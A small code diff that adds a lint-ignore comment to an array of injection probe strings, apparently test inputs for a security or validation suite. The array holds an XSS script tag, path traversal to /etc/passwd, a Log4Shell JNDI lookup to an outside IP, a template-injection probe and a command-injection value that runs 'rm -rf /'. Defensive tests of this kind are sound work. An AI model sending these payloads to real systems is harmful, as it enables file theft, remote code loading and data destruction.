@@ -26,6 +26,7 @@ const INJECTIONS = [
   "<script>alert(1)</script>",
   "../../../../etc/passwd",
   "..%2f..%2fetc%2fpasswd",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally
   "${jndi:ldap://203.0.113.1/a}",
   "{{7*7}}",
   "; rm -rf / #",
